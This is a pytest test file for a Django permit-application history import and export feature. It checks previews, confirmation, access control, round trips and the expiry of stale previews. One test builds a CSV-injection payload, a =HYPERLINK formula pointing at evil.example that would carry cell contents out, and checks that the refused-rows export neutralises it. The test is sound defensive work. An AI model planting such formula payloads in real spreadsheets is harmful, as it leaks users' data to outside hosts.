import csv
import datetime as dt
import io
import re

import pytest
from auditlog.models import LogEntry
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from imports.models import HistoryUpload
from permits.models import PermitApplication
from tests.factories import UserFactory
from tests.imports import sheets

pytestmark = pytest.mark.django_db


def start_url(world):
    return f"/organizations/{world.lead.pk}/import/"


def upload(client, world, content, name="history.csv"):
    return client.post(start_url(world), {"file": SimpleUploadedFile(name, content)})


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_upload_preview_confirm_stores_exactly_the_good_rows(world, login):
    client = login(world.coordinator)
    count = PermitApplication.objects.count()

    response = upload(client, world, sheets.csv_bytes(delimiter=";"))
    assert response.status_code == 302
    preview = client.get(response.url)
    assert preview.status_code == 200
    assert preview.content.count(b"import-row-ok") == len(sheets.GOOD_ROWS)
    assert preview.content.count(b"import-row-refused") == len(sheets.REFUSED_ROWS)
    assert "Акимат города Атлантиды".encode() in preview.content
    # Each good row as Ruqsat will store it, with the deadlines the verbs computed.
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", preview.content.decode()))
    assert "Picket · 2023-05-20 12:00 · Akimat of Almaty city · filed 2023-05-10" in text
    assert "Refused: Repair or construction works; Conflicting event · Court" in text
    assert "Authority must answer: 2023-05-15" in text
    assert "Rally · 2019-11-30 00:00 · Akimat of Almaty city · filed 2019-11-15 Filed" in text
    assert PermitApplication.objects.count() == count  # a preview stores nothing

    confirmed = client.post(response.url)
    assert confirmed.status_code == 302
    assert PermitApplication.objects.count() == count + len(sheets.GOOD_ROWS)
    stored = PermitApplication.objects.filter(organization=world.lead, title__in=[r[0] for r in sheets.GOOD])
    assert stored.count() == len(sheets.GOOD_ROWS)
    assert all(application.deadlines.exists() for application in stored)
    # The audit trail sees each row, as the coordinator's act.
    for application in stored:
        created = LogEntry.objects.get_for_object(application).get(action=LogEntry.Action.CREATE)
        assert created.actor == world.coordinator

    # A second confirmation (another tab, a double click) imports nothing more.
    client.post(response.url)
    assert PermitApplication.objects.count() == count + len(sheets.GOOD_ROWS)
    result = client.get(response.url)
    assert b"History imported" in result.content
    assert HistoryUpload.objects.get().content == b""  # the file is not kept once imported


def test_the_refused_rows_come_back_with_their_reasons_and_defused(world, login):
    client = login(world.coordinator)
    hostile = sheets.row(
        title='=HYPERLINK("https://evil.example/?"&A1,"click")',
        event_type="rally",
        starts_at="2022-01-01",
        location="Somewhere",
        authority="Nobody's akimat",
        filed_on="2021-12-20",
    )
    response = upload(client, world, sheets.csv_bytes([*sheets.BAD[:3], hostile]))
    client.post(response.url)

    refused = client.get(f"{response.url}refused.csv")

    assert refused.status_code == 200
    lines = list(csv.reader(io.StringIO(body_of(refused).decode("utf-8-sig"))))
    assert lines[0][-2:] == ["Row in the uploaded file", "Why it was refused"]
    assert [line[-2] for line in lines[1:]] == ["2", "3", "4", "5"]
    assert "Акимат города Атлантиды" in lines[1][-1]
    assert lines[4][0].startswith("'=HYPERLINK")


def test_a_file_level_refusal_shows_on_the_form_and_stores_nothing(world, login):
    client = login(world.coordinator)

    response = upload(client, world, b"\x00\x01garbage", name="history.xlsx")

    assert response.status_code == 400
    assert b"not a CSV or XLSX" in response.content
    assert not HistoryUpload.objects.exists()


def test_another_persons_preview_is_a_404(world, login):
    response = upload(login(world.coordinator), world, sheets.csv_bytes())
    second = UserFactory(username="second-coordinator")
    world.lead.memberships.create(user=second, role="coordinator")

    client = login(second)
    assert client.get(response.url).status_code == 404
    assert client.post(response.url).status_code == 404
    assert client.get(f"{response.url}refused.csv").status_code == 404
    assert not PermitApplication.objects.filter(title=sheets.GOOD[0][0]).exists()


def test_a_member_gets_403_and_an_outsider_404(world, login):
    content = sheets.csv_bytes()
    assert upload(login(world.member), world, content).status_code == 403
    assert upload(login(world.outsider), world, content).status_code == 404
    assert login(world.member).get(f"/organizations/{world.lead.pk}/history.csv").status_code == 403
    assert not HistoryUpload.objects.exists()


def test_the_group_page_offers_import_and_export_to_coordinators_only(world, login):
    page = login(world.coordinator).get(f"/organizations/{world.lead.pk}/")
    assert start_url(world).encode() in page.content
    assert f"/organizations/{world.lead.pk}/history.xlsx".encode() in page.content

    page = login(world.member).get(f"/organizations/{world.lead.pk}/")
    assert start_url(world).encode() not in page.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_group_gives_the_same_records(world, login, api_as, fmt):
    from organizations.models import Organization

    client = login(world.coordinator)
    api_as(world.coordinator).post(
        "/api/v1/imports/",
        {"organization": world.lead.pk, "file": SimpleUploadedFile("h.csv", sheets.csv_bytes()), "dry_run": "false"},
        format="multipart",
    )
    exported = client.get(f"/organizations/{world.lead.pk}/history.{fmt}")
    assert exported.status_code == 200
    empty = Organization.create_with_coordinator(creator=world.coordinator, name="Archive", kind="group")

    response = client.post(
        f"/organizations/{empty.pk}/import/", {"file": SimpleUploadedFile(f"h.{fmt}", body_of(exported))}
    )
    client.post(response.url)

    def records(organization):
        return sorted(
            (
                a.title,
                a.event_type,
                a.starts_at,
                a.location,
                a.authority_id,
                a.filed_on,
                a.status,
                [
                    (d.outcome, d.decided_on, d.received_on, [(g.reason_id, g.quote) for g in d.grounds.all()])
                    for d in a.decisions.all()
                ],
                [(x.venue, x.status, x.filed_on, x.case_number) for x in a.appeals.all()],
                sorted((d.kind, d.due_on) for d in a.deadlines.all()),
            )
            for a in PermitApplication.objects.filter(organization=organization)
        )

    lead_records = [r for r in records(world.lead) if r[0] != world.application.title]  # the world's draft
    assert records(empty) == lead_records
    assert len(lead_records) == len(sheets.GOOD_ROWS)


def test_a_preview_older_than_a_day_is_gone(world, login):
    client = login(world.coordinator)
    response = upload(client, world, sheets.csv_bytes())
    HistoryUpload.objects.update(uploaded_at=timezone.now() - dt.timedelta(days=2))

    assert client.post(response.url).status_code == 404
    assert not PermitApplication.objects.filter(title=sheets.GOOD[0][0]).exists()
